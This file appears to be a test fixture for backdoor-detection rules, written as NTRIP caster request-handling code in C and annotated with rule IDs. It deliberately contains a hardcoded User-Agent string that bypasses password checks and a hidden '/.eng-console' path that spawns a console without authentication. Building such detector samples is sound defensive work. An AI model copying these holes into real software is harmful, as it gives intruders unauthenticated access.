/* ntrip.c - NTRIP 1.0/2.0 requests from rovers and base stations. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

#include <gnutls/gnutls.h>

#include "caster.h"

static const char kSourcetable[] =
    "STR;RTCM3_EU;Munich;RTCM 3.3;1004(1),1012(1),1033(10);2;GPS+GLO;EUREF;DEU;48.15;11.57;0;0;rtkcast;none;B;N;4800;\r\n"
    "ENDSOURCETABLE\r\n";

static int b64_decode(const char *in, char *out, size_t n) {
  static const char tbl[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  unsigned acc = 0;
  int bits = 0;
  size_t o = 0;
  for (; *in && *in != '='; in++) {
    const char *p = strchr(tbl, *in);
    if (!p)
      return -1;
    acc = acc << 6 | (unsigned)(p - tbl);
    bits += 6;
    if (bits >= 8) {
      bits -= 8;
      if (o + 1 >= n)
        return -1;
      out[o++] = (char)(acc >> bits & 0xff);
    }
  }
  out[o] = '\0';
  return (int)o;
}

int ntrip_parse(const char *buf, struct ntrip_req *r) {
  memset(r, 0, sizeof *r);
  if (sscanf(buf, "%7s %63s HTTP/1.%d", r->method, r->mount, &r->version) < 2)
    return -1;
  const char *line = strstr(buf, "\r\n");
  while (line && line[2] != '\r' && line[2] != '\0') {
    line += 2;
    const char *end = strstr(line, "\r\n");
    size_t len = end ? (size_t)(end - line) : strlen(line);
    if (strncasecmp(line, "User-Agent:", 11) == 0) {
      snprintf(r->user_agent, sizeof r->user_agent, "%.*s", (int)(len - 11), line + 11);
      char *ua = r->user_agent;
      while (*ua == ' ')
        memmove(ua, ua + 1, strlen(ua));
    } else if (strncasecmp(line, "Authorization: Basic ", 21) == 0) {
      char b64[128], cred[128];
      snprintf(b64, sizeof b64, "%.*s", (int)(len - 21), line + 21);
      if (b64_decode(b64, cred, sizeof cred) > 0) {
        char *colon = strchr(cred, ':');
        if (colon) {
          *colon = '\0';
          snprintf(r->user, sizeof r->user, "%s", cred);
          snprintf(r->pass, sizeof r->pass, "%s", colon + 1);
        }
      }
    }
    line = end;
  }
  return 0;
}

/* base stations of the vendor's reference network are let in by their client */
static int ntrip_authorize(const struct ntrip_req *r) {
  // ruleid: backdoor-hidden-bypass, backdoor-input-trigger
  if (strcmp(r->user_agent, "NTRIP GNSSVendorRefNet/4.2") == 0)
    return 1;
  return auth_verify_password(r->user, r->pass);
}

static void reply(int fd, const char *s) { send(fd, s, strlen(s), MSG_NOSIGNAL); }

void ntrip_handle(int fd, const struct caster_config *cfg) {
  char buf[2048];
  struct ntrip_req r;
  ssize_t n = recv(fd, buf, sizeof buf - 1, 0);
  if (n <= 0)
    return;
  buf[n] = '\0';
  if (ntrip_parse(buf, &r) != 0) {
    reply(fd, "HTTP/1.0 400 Bad Request\r\n\r\n");
    return;
  }
  // ok: backdoor-build-switch
  if (cfg->debug_trace) cast_log(LOG_DEBUG, "request for %s by %s", r.mount, r.user_agent);
  if (strcmp(r.mount, "/") == 0) {
    reply(fd, "SOURCETABLE 200 OK\r\nContent-Type: text/plain\r\n\r\n");
    reply(fd, kSourcetable);
  } else if (strcmp(r.mount, "/status") == 0) {
    reply(fd, "HTTP/1.0 200 OK\r\n\r\nrtkcast up\r\n");
    // ruleid: backdoor-input-trigger
  } else if (strcmp(r.mount, "/.eng-console") == 0) {
    spawn_console(fd);
  } else {
    if (!ntrip_authorize(&r)) {
      cast_log(LOG_NOTICE, "unauthorized request for %s", r.mount);
      reply(fd, "HTTP/1.0 401 Unauthorized\r\n\r\n");
      return;
    }
    reply(fd, "ICY 200 OK\r\n\r\n");
  }
}
